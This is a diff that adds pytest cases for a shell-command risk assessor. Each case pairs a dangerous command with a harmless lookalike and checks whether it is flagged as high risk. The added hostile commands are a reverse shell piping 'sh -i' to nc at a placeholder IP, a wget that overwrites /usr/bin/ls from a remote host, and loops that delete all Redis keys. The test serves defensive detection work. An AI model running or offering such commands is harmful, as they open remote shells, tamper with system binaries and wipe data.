@@ -123,3 +123,22 @@ def test_input_that_becomes_commands_and_names_that_become_options(
     command: str, asked: bool, knowledge: Knowledge
 ) -> None:
     assert (assess(command, knowledge=knowledge).level >= RiskLevel.HIGH) is asked
+
+
+@pytest.mark.parametrize(
+    ("command", "asked"),
+    [
+        ("redis-cli keys '*' | while read k; do redis-cli del \"$k\"; done", True),
+        ("for k in $(redis-cli keys 'tmp:*'); do redis-cli del $k; done", True),
+        ("for k in a b; do redis-cli del $k; done", False),
+        ("redis-cli keys '*' | while read k; do redis-cli ttl \"$k\"; done", False),
+        ("h=203.0.113.99; (sh -i 2>&1 | nc $h 443) &", True),
+        ("bash -c 'echo hi' | nc localhost 80", False),
+        ("wget -O /usr/bin/ls http://203.0.113.77/ls", True),
+        ("cp build/tool /usr/local/bin/ls-tool", False),
+    ],
+)
+def test_loops_over_what_is_listed_shells_on_a_line_and_replaced_programs(
+    command: str, asked: bool, knowledge: Knowledge
+) -> None:
+    assert (assess(command, knowledge=knowledge).level >= RiskLevel.HIGH) is asked
